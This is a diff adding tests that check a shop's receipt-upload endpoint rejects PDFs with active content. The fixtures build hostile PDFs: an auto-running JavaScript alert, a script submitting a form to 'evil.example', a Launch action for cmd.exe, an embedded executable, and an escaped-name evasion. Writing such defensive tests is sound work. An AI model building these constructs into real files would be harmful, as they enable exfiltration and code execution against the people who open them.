@@ -1,6 +1,7 @@
 import { readFileSync } from 'node:fs';
 import { and, eq } from 'drizzle-orm';
 import sharp from 'sharp';
+import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from 'pdf-lib';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { Order } from '@shared/contracts/orders';
 import { orderNumber } from '@shared/domain/order';
@@ -176,5 +177,52 @@ describe('a transfer’s receipt', () => {
     expect(paid.statusCode).toBe(409);
     expect(paid.json().message).toBe(o.receipt.paid);
     expect((await shop.customer.get(`/api/orders/${transfer.id}/receipt`)).statusCode).toBe(404);
+  });
+});
+
+describe('a PDF receipt that could act when the owner opens it (issue 37)', () => {
+  /** A one-page receipt as a bank's site makes it, `extra` adding what a hostile one carries. */
+  async function receiptPdf(extra: (doc: PDFDocument) => void | Promise<void> = () => undefined, save: { useObjectStreams?: boolean } = {}) {
+    const doc = await PDFDocument.create();
+    const page = doc.addPage([420, 300]);
+    page.drawText('CCP 0012345678 cle 42 - Virement 1 800,00 DA', { x: 30, y: 250, size: 12, font: await doc.embedFont(StandardFonts.Helvetica) });
+    await extra(doc);
+    return Buffer.from(await doc.save(save));
+  }
+  const action = (doc: PDFDocument, entries: Record<string, unknown>) => doc.context.obj(entries as never);
+  const HOSTILE: [string, (doc: PDFDocument) => void | Promise<void>][] = [
+    ['an OpenAction running JavaScript', (doc) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'JavaScript', JS: PDFString.of('app.alert("payez 350 DA")') }))],
+    ['a document-level script (Names /JavaScript)', (doc) => {
+      const js = doc.context.register(action(doc, { S: 'JavaScript', JS: PDFHexString.fromText('this.submitForm("https://evil.example")') }));
+      doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: doc.context.obj({ Names: [PDFString.of('a'), js] }) }));
+    }],
+    ['a Launch action on a page', (doc) => doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: action(doc, { S: 'Launch', F: PDFString.of('cmd.exe') }) }))],
+    ['an attached file', async (doc) => doc.attach(Buffer.from('MZ\u0090\u0000'), 'recu.exe', { mimeType: 'application/octet-stream' })],
+  ];
+
+  it('is refused with 422 and a clear message when it carries scripts, automatic actions or attached files, compressed or not; nothing is stored', async () => {
+    await enableCcp();
+    const order = await place({ paymentMethod: 'ccp' });
+    for (const [what, extra] of HOSTILE) {
+      for (const useObjectStreams of [true, false]) {
+        const res = await sendReceipt(shop.customer, order.id, await receiptPdf(extra, { useObjectStreams }), 'application/pdf');
+        expect(res.statusCode, `${what} (object streams ${useObjectStreams}): ${res.body}`).toBe(422);
+        expect(res.json()).toEqual({ message: en.checkout.order.receipt.activePdf });
+      }
+    }
+    // A name written with #xx escapes (/J#61vaScript) is the same name.
+    const escaped = Buffer.from((await receiptPdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'JavaScript', JS: PDFString.of('1') })), { useObjectStreams: false })).toString('latin1').replace('/JavaScript', '/J#61vaScript'), 'latin1');
+    expect((await sendReceipt(shop.customer, order.id, escaped, 'application/pdf')).statusCode).toBe(422);
+    expect((await shop.customer.get(`/api/orders/${order.id}/receipt`)).statusCode).toBe(404);
+    expect(((await shop.customer.get(`/api/orders/${order.id}`)).json() as Order).receipt).toBeNull();
+  });
+
+  it('takes the same receipt without them, byte for byte, even when it opens at its first page (an OpenAction that only goes there)', async () => {
+    await enableCcp();
+    const order = await place({ paymentMethod: 'ccp' });
+    const plain = await receiptPdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([doc.getPage(0).ref, PDFName.of('Fit')])));
+    const res = await sendReceipt(shop.customer, order.id, plain, 'application/pdf');
+    expect(res.statusCode, res.body).toBe(201);
+    expect((await shop.owner.get(`/api/orders/${order.id}/receipt`)).rawPayload.equals(plain)).toBe(true);
   });
 });
